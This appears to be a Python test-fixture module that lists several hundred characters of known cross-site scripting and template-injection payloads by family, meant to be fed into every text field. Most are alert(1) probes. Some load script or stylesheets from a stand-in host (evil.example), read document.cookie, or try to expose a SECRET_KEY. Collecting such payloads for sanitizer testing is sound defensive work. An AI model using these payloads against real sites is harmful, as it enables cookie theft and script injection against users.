"""Known cross-site scripting payloads, by family; each is fed into every text field.

Collected from the usual public cheat sheets (OWASP's XSS filter evasion list,
PortSwigger's cheat sheet, published mutation-XSS and template-injection cases).
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">document.location="//evil.example/"</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "'--></style></script><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<p title="x" onclick="alert(1)">click</p>',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<img/src/onerror=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "javascript:alert(1)",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url('javascript:alert(1)')}</style>",
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    '<img """><script>alert(1)</script>">',
    "<a href='x' <script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
]

ENCODING_TRICKS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scrİpt>alert(1)</scrİpt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
]

MUTATION_XSS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
]

PAYLOADS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *SVG_AND_MATHML,
    *CSS,
    *BROKEN_MARKUP,
    *ENCODING_TRICKS,
    *MUTATION_XSS,
    *TEMPLATE_INJECTION,
]
